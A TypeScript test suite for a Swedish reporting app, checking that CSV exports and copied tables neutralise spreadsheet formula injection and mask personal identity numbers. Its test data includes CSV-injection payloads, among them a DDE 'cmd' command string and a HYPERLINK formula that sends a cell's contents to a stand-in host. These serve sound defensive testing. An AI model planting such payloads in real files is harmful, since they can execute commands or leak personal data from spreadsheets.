import { describe, expect, it } from 'vitest';
import { clipboardText } from '../../../src/components/tables/copyTable';
import { safeCellText, toCsv, type CsvColumn } from '../../../src/format/csv';
import * as exportsModule from '../../../src/format/exports';
import type { FileReconciliation, Problem } from '../../../src/format/importRecords';
import type { IvoEntry, IvoSummaryRow } from '../../../src/kpi';
import { containsPersonnummer } from '../../../src/format/personnummer';

/** A plain `;` CSV reader (RFC 4180 quoting, CRLF rows), independent of the writer. */
function parseCsv(text: string): string[][] {
  const body = text.startsWith('\ufeff') ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ';') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (quoted) throw new Error('unterminated quote');
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

// Only a sign followed by digits, separators, spaces and % may start with a formula character:
// such a cell cannot call a function or reach anything.
const HARMLESS_NUMBER = /^[-+][\d.,\s%]*$/;
const FORMULA_START = /^[=+\-@\t\r]/;

function assertSafe(cell: string, where: string) {
  if (FORMULA_START.test(cell)) expect(cell, `${where}: ${JSON.stringify(cell)}`).toMatch(HARMLESS_NUMBER);
  expect(containsPersonnummer(cell), `${where}: ${JSON.stringify(cell)}`).toBe(false);
}

/** Hostile values and the cell a spreadsheet must receive for each (after unquoting), written by hand. */
const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
  ['+Söder', "'+Söder"],
  ['-Öster', "'-Öster"],
  ['@Väster', "'@Väster"],
  ['=1+1', "'=1+1"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['Vårdnadshavare 19121212-1212 avbokade', 'Vårdnadshavare ÅÅMMDD-XXXX avbokade'],
  ['=HYPERLINK("http://x?"&A1,"121212-1212")', '\'=HYPERLINK("http://x?"&A1,"ÅÅMMDD-XXXX")'],
  ['-19121212-1212', "'-ÅÅMMDD-XXXX"],
  ['121212+1212', 'ÅÅMMDD-XXXX'],
  ['U24-90002;=1+1;19121212-1212;Söder', 'U24-90002;=1+1;ÅÅMMDD-XXXX;Söder'],
  ['a;"b"\r\n=c', 'a;"b"\r\n=c'],
];

describe('safeCellText', () => {
  it.each(HOSTILE)('%j becomes %j', (value, expected) => {
    expect(safeCellText(value)).toBe(expected);
  });

  it('leaves numbers written as text as they are', () => {
    for (const n of ['-4', '−4,5', '-4.5', '+6', '−1\u202f234', '-3\u202f%', '-4,5 %', '0', '12']) {
      expect(safeCellText(n)).toBe(n);
    }
  });

  it('neutralises text that only starts like a number', () => {
    expect(safeCellText('-4 dagar')).toBe("'-4 dagar");
    expect(safeCellText('+6 (+3)')).toBe("'+6 (+3)");
    expect(safeCellText('-4-4')).toBe("'-4-4");
    expect(safeCellText('-')).toBe("'-");
    expect(safeCellText('+')).toBe("'+");
  });

  it('leaves ordinary text, dates and system ids untouched', () => {
    for (const v of ['Söder', 'U24-90002', 'B25-9005', '2025-01-31', '20250131', "'=1", ' =1', '', 'ja']) {
      expect(safeCellText(v)).toBe(v);
    }
  });

  it('is idempotent', () => {
    for (const [value] of HOSTILE) expect(safeCellText(safeCellText(value))).toBe(safeCellText(value));
  });
});

describe('toCsv', () => {
  const one = (value: string | number | boolean | null) =>
    toCsv([{ header: 'v', value: (r: { v: typeof value }) => r.v }], [{ v: value }]);

  it('writes the neutralised cell, quoted only when needed', () => {
    expect(one('=1+1')).toBe("\ufeffv\r\n'=1+1\r\n");
    expect(one('\r=1')).toBe('\ufeffv\r\n"\'\r=1"\r\n');
    expect(one('=HYPERLINK("http://x","y")')).toBe('\ufeffv\r\n"\'=HYPERLINK(""http://x"",""y"")"\r\n');
  });

  it('writes JS numbers as numbers, never as text', () => {
    expect(one(-4)).toBe('\ufeffv\r\n-4\r\n');
    expect(one(-4.5)).toBe('\ufeffv\r\n-4,5\r\n');
    expect(one(-1e21)).toBe('\ufeffv\r\n-1e+21\r\n');
    expect(one(0)).toBe('\ufeffv\r\n0\r\n');
  });

  it('masks a personnummer held as a JS number', () => {
    expect(one(191212121212)).toBe('\ufeffv\r\nÅÅMMDD-XXXX\r\n');
  });

  it('writes booleans and empty values', () => {
    expect(one(true)).toBe('\ufeffv\r\nja\r\n');
    expect(one(null)).toBe('\ufeffv\r\n\r\n');
  });

  it('neutralises and masks headers too', () => {
    expect(toCsv([{ header: '=x 121212-1212', value: () => 1 }], [])).toBe("\ufeff'=x ÅÅMMDD-XXXX\r\n");
  });
});

// One hostile row per exported column set: every text field holds the hostile value, every
// numeric field `NUM`, dates and months real ones (their text comes from the calendar).
const NUM = -4.5;
const MONTH = 2025 * 12;
const DAY = 20119; // 2025-01-31
const QUARTER = 2025 * 4;

const counts = (n: number) => ({
  decisions: n,
  executedInTime: n,
  executedLate: n,
  overdue: n,
  notYetDue: n,
  lateShare: n,
  preliminary: true,
});
const yoy = (n: number) => ({
  month: MONTH,
  numerator: n,
  denominator: n,
  share: n,
  preliminary: false,
  previousNumerator: n,
  previousDenominator: n,
  previousShare: n,
  previousPreliminary: false,
  changePoints: n,
});
const period = (n: number) => ({
  year: 2025,
  monthsWithData: n,
  monthsInSpan: n,
  numerator: n,
  denominator: n,
  meanOfMonthlyShares: n,
  pooledShare: n,
  preliminary: false,
});

type RowMaker = (text: string, n: number) => unknown;
const HOSTILE_ROWS: Record<string, RowMaker> = {
  investigationMonthlyColumns: (_, n) => ({
    month: MONTH,
    started: n,
    inTime: n,
    extended: n,
    late: n,
    pending: n,
    extendedOverdue: n,
    lateShare: n,
    preliminary: true,
    yoy: yoy(n),
  }),
  periodColumns: (_, n) => period(n),
  concernPeriodColumns: (_, n) => period(n),
  problemColumns: (text, n): Problem => ({
    file: text,
    line: n,
    column: text,
    value: text,
    code: text as Problem['code'],
    severity: 'avvisad',
    message: text,
  }),
  reconciliationColumns: (text, n): FileReconciliation => ({
    file: text,
    dataset: text as FileReconciliation['dataset'],
    encoding: text as FileReconciliation['encoding'],
    delimiter: text,
    rowsRead: n,
    rowsAccepted: n,
    rowsRejected: n,
    rowsWithWarning: n,
  }),
  concernMonthlyColumns: (_, n) => ({
    month: MONTH,
    received: n,
    inTime: n,
    late: n,
    pending: n,
    underInvestigation: n,
    inTimeShare: n,
    preliminary: false,
    protectiveInTime: n,
    protectiveLate: n,
    protectivePending: n,
    protectiveShare: n,
    opened: n,
    notOpened: n,
    openedShare: n,
    yoy: yoy(n),
  }),
  reasonColumns: (text, n) => ({ year: 2025, reason: text, count: n, share: n }),
  concernVolumeColumns: (_, n) => ({ month: MONTH, value: n }),
  decisionMonthColumns: (_, n) => ({ month: MONTH, ...counts(n) }),
  decisionQuarterColumns: (_, n) => ({
    quarter: QUARTER,
    ...counts(n),
    previousYear: counts(n),
    median: n,
    p90: n,
    executed: n,
  }),
  decisionBreakdownColumns: (text, n) => ({ label: text, ...counts(n) }),
  ivoColumns: (text, n): IvoEntry => ({
    quarter: text,
    id: text,
    decided: DAY,
    start: DAY,
    deadline: DAY,
    intervention: text,
    kind: 'avbrott',
    executed: true,
    executedOn: DAY,
    days: n,
    reason: text,
    sex: text,
    unit: text,
    status: text as IvoEntry['status'],
  }),
  ivoSummaryColumns: (text, n): IvoSummaryRow => ({
    group: text as IvoSummaryRow['group'],
    label: text,
    count: n,
  }),
};

/** Column sets with no text field from the data (their text cells are months, quarters, flags). */
const NUMBERS_ONLY = new Set([
  'investigationMonthlyColumns',
  'periodColumns',
  'concernPeriodColumns',
  'concernMonthlyColumns',
  'concernVolumeColumns',
  'decisionMonthColumns',
  'decisionQuarterColumns',
]);

function columnSet(name: string): CsvColumn<unknown>[] {
  const exported = (exportsModule as Record<string, unknown>)[name];
  return (typeof exported === 'function' ? exported('=enhet 121212-1212') : exported) as CsvColumn<unknown>[];
}

describe('every exported column set, fed hostile values', () => {
  it('covers every column set that exports.ts exports', () => {
    const exported = Object.keys(exportsModule).filter((name) => name.endsWith('Columns'));
    expect(Object.keys(HOSTILE_ROWS).sort()).toEqual(exported.sort());
  });

  for (const name of Object.keys(HOSTILE_ROWS)) {
    it(`${name}: no formula, no personnummer, numbers stay numbers`, () => {
      const columns = columnSet(name);
      const rows = HOSTILE.map(([text]) => HOSTILE_ROWS[name](text, NUM));
      const parsed = parseCsv(toCsv(columns, rows));
      expect(parsed).toHaveLength(rows.length + 1);
      parsed.forEach((cells, r) => {
        expect(cells, `${name} row ${r}`).toHaveLength(columns.length);
        cells.forEach((cell, c) => assertSafe(cell, `${name} row ${r} ${columns[c].header}`));
      });
      let hostileCells = 0;
      let numberCells = 0;
      rows.forEach((row, i) => {
        const [text, expected] = HOSTILE[i];
        columns.forEach((column, c) => {
          const value = column.value(row);
          const cell = parsed[i + 1][c];
          if (value === text) {
            expect(cell).toBe(expected);
            hostileCells++;
          } else if (typeof value === 'number') {
            expect(cell, `${name} ${column.header}`).toMatch(/^-?\d+(,\d+)?$/);
            expect(Number(cell.replace(',', '.'))).toBe(value);
            numberCells++;
          }
        });
      });
      expect(numberCells).toBeGreaterThan(0);
      if (!NUMBERS_ONLY.has(name)) expect(hostileCells).toBeGreaterThan(0);
    });
  }

  it('the breakdown header itself is neutralised and masked', () => {
    const [header] = parseCsv(toCsv(columnSet('decisionBreakdownColumns'), []));
    expect(header[0]).toBe("'=enhet ÅÅMMDD-XXXX");
  });
});

describe('clipboardText (table copied for Word and Excel)', () => {
  it('makes every cell safe with the same rule as the CSV', () => {
    // A page cell never holds a tab or line break: copyTable collapses white space first.
    const shown = HOSTILE.filter(([value]) => !/[\t\r\n]/.test(value));
    const lines = clipboardText([['enhet', 'antal'], ...shown.map(([value]) => [value, '-4'])]).split('\n');
    expect(lines).toHaveLength(shown.length + 1);
    expect(lines[0]).toBe('enhet\tantal');
    lines.slice(1).forEach((line, i) => {
      expect(line).toBe(`${shown[i][1]}\t-4`);
    });
  });

  it('neutralises a cell that starts with white space collapsed to a space only if it starts a formula', () => {
    expect(clipboardText([[' =1', '−4,5', '+6', '-Öster']])).toBe(" =1\t−4,5\t+6\t'-Öster");
  });
});
